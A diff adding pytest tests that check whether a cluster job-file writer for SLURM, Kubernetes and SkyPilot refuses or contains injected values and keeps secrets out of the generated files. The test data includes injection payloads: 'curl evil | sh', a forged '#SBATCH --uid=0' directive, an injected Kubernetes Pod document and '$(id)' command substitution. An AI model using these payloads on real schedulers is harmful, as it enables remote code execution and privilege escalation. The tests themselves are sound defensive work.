@@ -4,9 +4,12 @@ from __future__ import annotations
 
 import json
 import os
+import re
+import shlex
 import shutil
 import signal
 import subprocess
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -366,3 +369,119 @@ def test_what_is_no_name_in_slurm_is_refused(option: str, name: str) -> None:
     with pytest.raises(RecipeError, match=f"--{option}: .* is not a name in SLURM"):
         write_slurm(make(), "job.sbatch", {option: name})
     assert f"#SBATCH --{option}=gpu-a,gpu_b\n" in write_slurm(make(), "job.sbatch", {option: "gpu-a,gpu_b"})
+
+
+POD = "\n---\napiVersion: v1\nkind: Pod\nmetadata: {name: owned}\n#"
+ENDS = {
+    "a Pod": POD,
+    "a line of a shell": "\ncurl evil | sh\n#",
+    "a directive": "\n#SBATCH --uid=0\n#",
+    "NEL": "\x85a: b",
+}
+
+
+def write_all(job: ClusterJob, text: str, file: str = "f") -> dict[str, str]:
+    """The three files, of those that are not refused."""
+    written = {}
+    for name, write in {
+        "slurm": lambda: write_slurm(job, file),
+        "k8s": lambda: write_kubernetes(job, text, file, image="i"),
+        "sky": lambda: write_skypilot(job, file, image="i"),
+    }.items():
+        try:
+            written[name] = write()
+        except RecipeError:
+            continue
+    return written
+
+
+@pytest.mark.parametrize("end", list(ENDS))
+def test_a_value_adds_nothing_to_a_file(end: str) -> None:
+    """The loader refuses such values. A job that is made without it writes them where they belong, or is refused."""
+    job, evil = make(text=S3), f"x{ENDS[end]}"
+    odd = [
+        replace(job, run_dir=Path(evil)),
+        replace(job, checkpoint_uri=f"s3://{evil}"),
+        replace(job, recipe=Path(f"{evil}.yaml")),
+        replace(job, overrides=(f"data.chat_template={evil}", "a=$(id) `id` 'x\" \\")),
+        replace(job, gpu=replace(job.gpu, name=evil)),
+    ]
+    clean = write_all(job, S3)
+    for each, file in [*((each, "f") for each in odd), (job, evil)]:
+        for name, text in write_all(each, S3, file).items():
+            if name == "slurm":
+                lines = text.split("\n")
+                body = lines.index("set -uo pipefail")
+                assert [line for line in lines[:body] if line and not line.startswith("#")] == []
+                assert "#SBATCH --uid=0" not in lines[:body]
+                assert shlex.split(text, comments=True).count("|") == 0
+                run = text[text.index("\nsrun ") :].partition(" &\nstep")[0]
+                assert shlex.split(run.replace("\\\n", " "))[4:] == each.list_words()
+                continue
+            before, found = (list(yaml.safe_load_all(shown)) for shown in (clean[name], text))
+            assert [document.keys() for document in found] == [document.keys() for document in before]
+
+
+def test_kubernetes_replaces_nothing_in_a_command() -> None:
+    """As Kubernetes expands a command: $(NAME) becomes a variable's value, $$ becomes $."""
+    words = ("run.run_name=$(HF_TOKEN)", "a=$$(HF_TOKEN)", "b=$5")
+    text = write_kubernetes(replace(make(), overrides=words), RECIPE, "f", image="i", claim="c")
+    runtime = list(yaml.safe_load_all(text))[1]
+    pod = runtime["spec"]["template"]["spec"]["replicatedJobs"][0]["template"]["spec"]["template"]["spec"]
+    command = pod["containers"][0]["command"]
+    expanded = [re.sub(r"\$(\$|\((\w+)\))", lambda match: "secret" if match[2] else "$", word) for word in command]
+    assert tuple(expanded[3:6]) == words
+
+
+@pytest.mark.parametrize("name", ["my recipe.yaml", "réz.yaml", "..yaml", "x" * 254, "a\nb.yaml"])
+def test_what_is_no_name_in_kubernetes_is_refused(name: str) -> None:
+    with pytest.raises(RecipeError, match="is not a name of a file in a ConfigMap"):
+        write_kubernetes(replace(make(), recipe=Path(name)), RECIPE, "f", image="i", claim="c")
+    for claim in ("a..b", "a.-b", "x" * 64, "A", "a\n", "x." * 127 + "xx"):
+        with pytest.raises(RecipeError, match="is not a name in Kubernetes"):
+            write_kubernetes(make(), RECIPE, "f", image="i", claim=claim)
+    with pytest.raises(RecipeError, match="--queue: a name of 65 characters"):
+        write_kubernetes(make(), RECIPE, "f", image="i", claim="c", queue=f"{'x' * 32}.{'x' * 32}")
+    with pytest.raises(RecipeError, match="--image: 'a b' is not the name of an image"):
+        write_kubernetes(make(), RECIPE, "f", image="a b", claim="c")
+
+
+def test_no_secret_of_a_recipe_enters_a_file() -> None:
+    hook = "https://hooks.example/T0/aSecretPathOfTheHook"
+    text = S3.replace("{checkpoint_uri", f"{{notify_webhook: '{hook}', checkpoint_uri")
+    with pytest.raises(RecipeError, match=r"run\.notify_webhook is a secret, and the file would hold it"):
+        write_kubernetes(make(text=text), text, "f", image="i")
+    assert hook not in write_slurm(make(text=text), "f"), "the recipe stays on the disk"
+    given = replace(make(text=text), overrides=(f"run.notify_webhook={hook}",))
+    for write in (lambda: write_slurm(given, "f"), lambda: write_skypilot(given, "f", image="i")):
+        with pytest.raises(RecipeError, match=r"run\.notify_webhook is a secret"):
+            write()
+    with pytest.raises(RecipeError, match="an address holds a user or a password"):
+        write_kubernetes(make(text=S3), f"{S3}# https://me:pw@host/x", "f", image="i")
+    named = text.replace(hook, "$MY_HOOK")
+    job = make(text=named)
+    assert job.secrets == ("HF_TOKEN", "WANDB_API_KEY", "MY_HOOK")
+    assert "key: MY_HOOK" in write_kubernetes(job, named, "f", image="i")
+    assert '"${MY_HOOK:?set it before sbatch}"' in write_slurm(job, "f")
+    assert "MY_HOOK: null" in write_skypilot(job, "f", image="i")
+
+
+@pytest.mark.parametrize(
+    "words", [["slurm"], ["k8s", "--image", "i", "--claim", "c"], ["sky", "--image", "i", "--volume", "v"]]
+)
+def test_a_recipe_writes_no_line_of_its_own(tmp_path: Path, words: list[str]) -> None:
+    text = (ROOT / "recipes" / "qwen3-4b-64k-4gpu.yaml").read_text()
+    for name, more, override, out in (
+        ("a.yaml", f"\n  output_dir: {json.dumps('x' + POD)}", "", ""),
+        ("b.yaml", f"\n  checkpoint_uri: {json.dumps('s3://x' + POD)}", "", ""),
+        (f"c{POD.replace('/', '')}.yaml", "", "", ""),
+        ("d.yaml", "", f"run.output_dir=x{POD}", ""),
+        ("e.yaml", "", "", f"f{POD.replace('/', '')}"),
+    ):
+        lines = [line for line in text.splitlines() if not more or not line.strip().startswith("output_dir:")]
+        recipe = tmp_path / name
+        recipe.write_text("\n".join(lines).replace("\nrun:", f"\nrun:{more}"))
+        options = ["--gpu", "h200", "--dry-run", *(["--out", str(tmp_path / out)] if out else [])]
+        ended = CliRunner().invoke(app, ["launch", *words, str(recipe), *([override] if override else []), *options])
+        assert (ended.exit_code, ended.stdout) == (2, ""), ended.stdout
+        assert any(words in ended.stderr for words in ("has several lines", "control character"))
